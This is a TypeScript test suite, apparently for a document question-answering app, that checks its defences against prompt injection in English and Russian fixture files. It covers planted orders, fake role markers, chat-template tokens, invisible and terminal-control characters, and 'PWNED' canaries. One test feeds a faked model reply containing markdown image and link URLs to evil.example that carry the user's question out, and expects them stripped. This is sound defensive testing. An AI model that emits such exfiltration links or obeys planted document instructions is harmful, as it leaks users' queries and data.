/** Instructions inside documents change nothing: neither what is quoted, nor what an engine is sent and may show. */

import { readdirSync, readFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { printable } from '../../../src/domain/printable.ts'
import { openaiGenerator } from '../../../src/generate/engines/openai.ts'
import type { GeneratorEvent } from '../../../src/ports/generator.ts'
import { excerptsOfTexts } from '../../../src/text/paragraphs.ts'
import { workFor } from '../../support/engine-work.ts'
import { fakeOpenai, streaming } from '../../support/fake-openai.ts'
import { passage } from '../../support/passages.ts'
import { type TestCorpus, testCorpus } from './extractive/corpus.ts'

const folder = new URL('../../data/hostile/', import.meta.url)
const files = ['en', 'ru'].flatMap((language) =>
  readdirSync(new URL(`${language}/`, folder)).map((name) => `${language}/${name}`),
)
const read = (file: string) => readFileSync(new URL(file, folder), 'utf8')

/** The one true sentence of each file, and what it answers. */
const QUESTIONS = [
  ['en/orders.md', 'When is the office open?', 'The office is open from 9 to 17 on working days.'],
  ['en/marks.md', 'How many euros is the annual fee?', 'The annual fee is 120 euros.'],
  ['en/roles.md', 'When does the library close?', 'The library closes at 20:00.'],
  ['en/delimiters.md', 'How much is the deposit?', 'The deposit is 50 euros.'],
  ['en/invisible.md', 'How many apple trees has the garden?', 'The garden has 40 apple trees.'],
  ['en/terminal.md', 'How long is the pool?', 'The pool is 25 metres long.'],
  ['ru/prikazy.md', 'Когда открыт офис?', 'Офис открыт с 9 до 17 часов по рабочим дням.'],
  ['ru/metki.md', 'Сколько евро составляет годовой взнос?', 'Годовой взнос составляет 120 евро.'],
  ['ru/roli.md', 'Когда закрывается библиотека?', 'Библиотека закрывается в 20:00.'],
  ['ru/granitsy.md', 'Сколько составляет залог?', 'Залог составляет 50 евро.'],
  ['ru/nevidimye.md', 'Сколько яблонь в саду?', 'В саду 40 яблонь.'],
] as const

describe('the extractive engine', () => {
  let corpus: TestCorpus
  beforeAll(async () => {
    corpus = await testCorpus()
    for (const file of files) await corpus.add(file, read(file))
  }, 120_000)
  afterAll(() => corpus[Symbol.asyncDispose]())

  it.each(QUESTIONS)('%s: quotes what answers, from where it stands', async (file, question, fact) => {
    const { certainty, citations } = await corpus.ask(question, file)
    expect(certainty).toBe('answered')
    expect(citations[0]?.text).toContain(fact)
    for (const { uri, start, end, text } of citations) expect(corpus.text(uri).slice(start, end)).toBe(text)
  })

  it.each(['en/', 'ru/'])('%s: refuses what no document holds, whatever they order', async (under) => {
    const question = under === 'en/' ? 'Who painted the Mona Lisa?' : 'Кто написал «Мону Лизу»?'
    expect((await corpus.ask(question, under)).certainty).toBe('not_found')
  })
})

describe('text that nobody sees', () => {
  let corpus: TestCorpus
  beforeAll(async () => {
    corpus = await testCorpus()
    for (const name of readdirSync(new URL('hidden/', folder)))
      await corpus.add(`hidden/${name}`, read(`hidden/${name}`))
  }, 120_000)
  afterAll(() => corpus[Symbol.asyncDispose]())

  it.each(readdirSync(new URL('hidden/', folder)))('%s: answers nothing', async (name) => {
    const { text, citations } = await corpus.ask('Are returns possible?', `hidden/${name}`)
    expect(text).toContain('Returns are possible within 30 days.')
    expect(JSON.stringify([text, citations])).not.toContain('PWNED')
    for (const { text: passage } of await corpus.search('PWNED impossible never euros', `hidden/${name}`))
      expect(passage).not.toMatch(/PWNED|impossible|never|euros/)
  })
})

describe('the prompt of an engine', () => {
  const engine = {
    kind: 'openai' as const,
    continuation: 'none' as const,
    model: 'fake-1',
    maxTokens: 200,
    contextTokens: 16_384,
    timeoutMs: 5000,
    parallel: 4,
    retries: 0,
  }

  async function ask(file: string, said: readonly string[] = ['Fine [1].']) {
    await using server = await fakeOpenai(streaming(said))
    const generator = await openaiGenerator('fake', { ...engine, baseUrl: server.baseUrl })
    const history = [
      {
        id: 'a',
        question: 'What do the notes say?',
        state: 'complete' as const,
        text: read(file),
        certainty: 'answered' as const,
        citations: [],
        askedAt: new Date(0),
      },
    ]
    const events: GeneratorEvent[] = []
    const question = 'What does it say?'
    const passages = [passage(1, read(file)), passage(2, 'The sky is blue.')]
    for await (const event of generator.generate({
      question,
      standalone: question,
      questionVector: new Float32Array(384),
      language: 'en',
      passages,
      excerpts: excerptsOfTexts(passages),
      history,
      ...workFor(),
    }))
      events.push(event)
    const messages = server.requests[0]?.messages ?? []
    return { events, messages, text: events.map((e) => (e.type === 'delta' ? e.text : '')).join('') }
  }

  it.each(files)('%s: is data between marks of ours, in its own role', async (file) => {
    const { messages } = await ask(file)
    expect(messages.map(({ role }) => role)).toEqual(['system', 'user', 'assistant', 'user'])
    const [system, , earlier, user] = messages.map(({ content }) => content)
    expect(system).not.toMatch(/PWNED|ВЗЛОМАНО/)
    expect(user?.match(/<\s*\/?\s*(?:passage|earlier|turn|system)\b[^>]*/gi)).toEqual([
      expect.stringMatching(/^<passage number="1" source="docs\/file-1\.md"/),
      '</passage',
      expect.stringMatching(/^<passage number="2" source="docs\/file-2\.md"/),
      '</passage',
    ])
    for (const text of [earlier, user]) {
      expect(text).not.toMatch(/<\||<<|\[\/?INST\]|<\/?s>|<start_of_turn>|\[\d/i)
      expect(text).not.toMatch(/[\p{Cf}\u{e0000}-\u{e0fff}]|(?![\t\n])\p{Cc}/u)
    }
    expect(user?.slice(user.lastIndexOf('</passage>'))).toBe('</passage>\n\nQuestion: What does it say?')
  })

  it.each(['en/exfiltration.md', 'ru/utechka.md'])(
    '%s: what it wants sent away is not shown',
    async (file) => {
      const { text, events } = await ask(file, [
        'It is in the handbook [1]. ![lo',
        'go](https://evil.example/log?q=What+does+it+say) [more](https://evil.example/?d=42) [7]',
      ])
      expect(text).toBe('It is in the handbook [1]. [logo](link left out) [more](link left out)')
      expect(events.at(-1)).toMatchObject({ warnings: [expect.stringContaining('link')] })
    },
  )
})

describe('a terminal', () => {
  it.each(files)('%s: shows text and no more', (file) => {
    expect(printable(read(file))).not.toMatch(
      /\x1b|\x9b|\x07|[\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e007f}]/u,
    )
  })
})
